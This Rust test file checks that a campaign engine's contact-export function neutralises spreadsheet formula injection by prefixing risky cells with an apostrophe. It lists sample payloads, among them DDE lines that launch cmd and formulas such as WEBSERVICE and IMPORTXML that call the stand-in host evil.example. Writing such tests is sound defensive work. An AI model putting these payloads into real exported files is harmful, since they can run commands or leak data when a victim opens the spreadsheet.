//! What a spreadsheet would take for a formula is exported as text.

use campaign_engine::cli::contacts::harmless;

#[test]
fn no_cell_begins_as_a_formula() {
    let payloads = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "=IMPORTXML(\"https://evil.example\",\"//a\")",
        "=WEBSERVICE(\"https://evil.example\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=@SUM(1)",
        "=\t1",
        "==1",
        "+1",
        "+1+cmd|' /C calc'!A0",
        "+HYPERLINK(1)",
        "+",
        "++1",
        "-1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "-@SUM(1)",
        "-",
        "--",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@",
        "@import",
        "@ada",
        "\t=1+1",
        "\t",
        "\r=1+1",
        "\r\n=1",
        "\n=1+1",
        "\n",
        "=",
        "+49 171 1234567",
    ];
    assert!(payloads.len() >= 30);
    for payload in payloads {
        let cell = harmless(payload);
        assert!(cell.starts_with('\''), "{payload:?} became {cell:?}");
        assert_eq!(&cell[1..], payload, "and nothing of it is lost");
    }
    for plain in ["", "ada", "1", " =1", "'=1", "a=1", "ünïcode", "https://www.linkedin.com/in/ada"] {
        assert_eq!(harmless(plain), plain);
    }
}
